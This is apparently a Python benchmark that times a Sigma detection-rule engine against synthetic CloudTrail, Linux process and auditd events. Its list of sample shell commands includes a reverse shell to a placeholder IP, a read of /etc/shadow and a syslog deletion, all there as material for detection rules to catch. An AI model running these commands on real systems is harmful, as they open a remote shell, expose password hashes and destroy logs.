"""How many events a second the rules of a folder are asked about, in one thread.

    python -m bench.bench_sigma FOLDER [ROUNDS]

FOLDER holds Sigma rules, say those of SigmaHQ, which are not part of this project. The events
are made here: what an account and a server say on an ordinary day, and now and then what a rule
looks for.
"""

import random
import sys
import time
from collections.abc import Callable

from bench.ground import Goals
from judgement.sigma.events import Said
from judgement.sigma.rules import OURS, Rules, Source, load

_EVENTS = 4000
_CALLS = (
    "DescribeInstances", "GetObject", "PutObject", "AssumeRole", "GetCallerIdentity",
    "ListBuckets", "Decrypt", "GenerateDataKey", "DescribeSecurityGroups", "ListRoles",
    "GetParameter", "DescribeVolumes", "HeadObject", "PutMetricData", "DescribeAlarms",
    "ListFunctions", "GetSecretValue", "RunInstances", "CreateTags", "ConsoleLogin",
    "AttachUserPolicy", "StopLogging", "CreateUser", "DeleteTrail", "ModifySnapshotAttribute",
)  # fmt: skip
_COMMANDS = (
    "ls -la /srv/app", "systemctl status nginx", "journalctl -u app --since today",
    "grep -n ERROR /var/log/app/app.log", "tail -n 200 /var/log/nginx/access.log", "df -h",
    "ps aux", "kubectl get pods -n shop", "psql -h db1 -c 'select 1'", "cat /etc/hosts",
    "curl -s http://localhost:8080/health", "vi /etc/nginx/nginx.conf", "git log --oneline -5",
    "du -sh /srv/app/releases", "find /srv -name '*.log' -mtime +7", "sudo systemctl reload nginx",
    "tar czf /tmp/logs.tgz /var/log/app", "chmod 640 /srv/app/settings.py", "whoami", "id",
    "python3 manage.py check", "docker ps", "ss -ltnp", "useradd -m deploy", "crontab -l",
    "cat /etc/shadow", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "rm -f /var/log/syslog",
)  # fmt: skip
_SYSCALLS = ("SYSCALL", "EXECVE", "PATH", "CWD", "PROCTITLE", "USER_CMD", "CRED_ACQ")


def _cloudtrail(dice: random.Random) -> Said:
    call = dice.choices(_CALLS, weights=[20] * 18 + [1] * (len(_CALLS) - 18))[0]
    return {
        "eventVersion": "1.08",
        "eventTime": "2026-08-03T10:00:00Z",
        "eventName": call,
        "eventSource": dice.choice(("ec2", "s3", "iam", "sts", "kms")) + ".amazonaws.com",
        "awsRegion": "eu-central-1",
        "sourceIPAddress": f"10.0.{dice.randrange(256)}.{dice.randrange(256)}",
        "userAgent": "aws-cli/2.15 Python/3.11",
        "readOnly": call.startswith(("Get", "List", "Describe", "Head")),
        "userIdentity": {
            "type": "AssumedRole",
            "arn": f"arn:aws:sts::111122223333:assumed-role/ops/{dice.randrange(40)}",
            "sessionContext": {"attributes": {"mfaAuthenticated": "true"}},
        },
        "requestParameters": {"instanceId": f"i-{dice.randrange(10**9):x}", "filterSet": {}},
        "responseElements": None,
    }


def _process(dice: random.Random) -> Said:
    line = dice.choice(_COMMANDS)
    return {
        "Image": "/usr/bin/" + line.split()[0],
        "CommandLine": f"{line} #{dice.randrange(1000)}",
        "ParentImage": "/bin/bash",
        "User": dice.choice(("alice", "bob", "root")),
        "CurrentDirectory": "/home/alice",
    }


def _auditd(dice: random.Random) -> Said:
    words = dice.choice(_COMMANDS).split()
    said = {f"a{at}": word for at, word in enumerate(words)}
    return {"type": dice.choice(_SYSCALLS), "comm": words[0], "exe": f"/usr/bin/{words[0]}",
            "uid": str(dice.randrange(2000)), "name": words[-1], **said}  # fmt: skip


def _speed(rules: Rules, source: Source, make: Callable[[random.Random], Said]) -> float:
    """Return events a second of processor time, and say how many matched."""
    dice = random.Random(7)
    events = [make(dice) for _ in range(_EVENTS)]
    rules.matches(events[0], source)  # the index is made with the first
    start = time.process_time()
    found = sum(len(rules.matches(said, source)) for said in events)
    spent = time.process_time() - start
    print(f"  {source.service or source.category}: {found} matches in {_EVENTS} events")
    return _EVENTS / spent


def main(folder: str, rounds: int) -> int:
    start = time.process_time()
    rules = load(folder)
    print(f"{len(rules)} rules in {time.process_time() - start:.2f} s of processor time")
    for problem in rules.problems:
        print(f"  {problem.file}: {problem.sentence}")
    goals = Goals()
    goals.most("rules that cannot be used", len(rules.problems), most=0, unit="")
    aws = Source(product="aws", service="cloudtrail")
    linux = Source(product="linux", category="process_creation")
    best = max(_speed(rules, aws, _cloudtrail) for _ in range(rounds))
    goals.least("CloudTrail, events a second", best, least=20_000)
    best = max(_speed(rules, linux, _process) for _ in range(rounds))
    goals.least("Linux processes, events a second", best, least=10_000)
    best = max(_speed(rules, Source(product="linux", service="auditd"), _auditd)
               for _ in range(rounds))  # fmt: skip
    goals.least("Linux auditd, events a second", best, least=10_000)
    goals.most("our own that cannot be used", len(load(OURS).problems), most=0, unit="")
    return goals.missed


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 3))
